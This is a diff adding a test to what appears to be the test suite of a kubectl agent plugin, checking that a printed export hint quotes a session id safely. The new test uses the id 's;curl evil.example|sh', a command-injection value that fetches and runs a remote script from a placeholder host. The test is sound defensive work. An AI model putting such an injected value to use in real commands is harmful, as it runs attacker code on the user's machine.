@@ -393,6 +393,14 @@ def test_the_help_shows_how_to_delete_what_is_listed(kagent: Kagent) -> None:
     assert f"{example}\n" in kagent("sessions", "delete", "-h")[1]
 
 
+def test_the_command_that_a_hint_gives_is_one_command_whatever_the_id_is(kagent: Kagent) -> None:
+    evil = "s;curl evil.example|sh"
+    data = {WHOLE: {"session": row(evil), "events": [event("00", text="hello")]}, f"{WHOLE}/tasks": None}
+    with talking(data=data) as agent:
+        err = sessions(kagent, agent, "show", SESSION)[2]
+    assert err.endswith(f"(kubectl kagent sessions export '{evil}' has the events)\n")
+
+
 def test_an_id_that_would_lead_elsewhere_is_refused(kagent: Kagent) -> None:
     with talking() as agent:
         assert sessions(kagent, agent, "delete", "..") == (
